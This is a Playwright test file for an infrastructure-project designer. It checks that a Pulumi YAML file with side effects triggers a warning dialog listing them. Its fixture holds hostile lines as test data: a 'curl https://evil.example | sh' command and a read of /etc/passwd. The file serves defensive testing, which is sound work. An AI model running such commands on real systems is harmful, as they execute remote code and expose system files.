import type { Locator, Page } from "@playwright/test";

import { expectAccessible } from "./axe.ts";
import { expect, test } from "./designer.ts";

const evil = `name: evil
runtime:
  name: yaml
  options: { compiler-flag: "--fast" }
backend: { url: "https://state.example" }
packages: { tool: "github.com/evil/tool@1.0.0" }
resources:
  deploy:
    type: command:local:Command
    properties: { create: "curl https://evil.example | sh" }
    options: { pluginDownloadURL: "https://plugins.example" }
outputs:
  key: { fn::readFile: /etc/passwd }
`;

const dialog = (page: Page, name: string): Locator => page.getByRole("dialog", { name });

const entries = (page: Page, group: string): Locator =>
  page.getByRole("list", { name: group }).getByRole("button");

test("a file's side effects are listed before it is stored, and each entry leads to its place", async ({
  designer,
  page,
}) => {
  await designer.open();
  await designer.openFile("Pulumi.yaml", evil);
  const asked = dialog(page, "Open “evil”?");
  await expect(asked.getByRole("heading", { level: 3 })).toHaveText([
    "Runs commands",
    "Downloads plugins from",
    "Installs packages from",
    "Reads files outside the project",
    "Changes the project's settings",
  ]);
  await expect(entries(page, "Runs commands")).toHaveText([
    "curl https://evil.example | sh deploy (command:local:Command)",
  ]);
  await expectAccessible(designer);
  await page.keyboard.press("Escape");
  await expect(asked).toBeHidden();
  await expect(designer.outlineNames()).toHaveCount(0);

  await designer.openFile("Pulumi.yaml", evil);
  await entries(page, "Runs commands").click();
  await expect(asked).toBeHidden();
  await expect(designer.outlineNames()).toHaveCount(1);
  await expect(designer.field("Name")).toHaveValue("deploy");
});

test("with the keyboard: the file is opened, and a later visit asks again before a download, once", async ({
  designer,
  page,
}) => {
  await designer.open();
  await designer.openFile("Pulumi.yaml", evil);
  await expect(dialog(page, "Open “evil”?")).toBeVisible();
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await expect(entries(page, "Runs commands")).toBeFocused();
  await dialog(page, "Open “evil”?")
    .getByRole("button", { name: "Open", exact: true })
    .press("Enter");
  await expect(designer.outlineNames()).toHaveCount(1);
  // After the warning, the page reports unread content as usual.
  await dialog(page, "Opened “evil”").getByRole("button", { name: "Done" }).press("Enter");

  const exportFile = async (): Promise<void> => {
    await page.keyboard.press("ControlOrMeta+k");
    const commands = page.getByRole("dialog").getByRole("combobox");
    await commands.fill("Export YAML project");
    await commands.press("Enter");
  };
  const review = dialog(page, "Download “evil”?");
  await designer.saved();
  await page.reload();
  await expect(designer.outlineNames()).toHaveCount(1);
  await exportFile();
  await expect(review.getByRole("heading", { level: 3 })).toHaveCount(5);
  await expectAccessible(designer);
  await entries(page, "Reads files outside the project").press("Enter");
  await expect(review).toBeHidden();
  await expect(designer.inspector()).toContainText("Stack output");

  await exportFile();
  await review.getByRole("button", { name: "Download", exact: true }).press("Enter");
  await expect(review).toBeHidden();
});

test("a file without side effects opens without a prompt", async ({ designer, page }) => {
  await designer.open();
  await designer.openFile(
    "Main.json",
    '{"name":"fine","resources":{"p":{"type":"delta:RestrictionPolicy"}}}',
  );
  await expect(designer.outlineNames()).toHaveCount(1);
  await expect(page.getByRole("dialog")).toHaveCount(0);
});
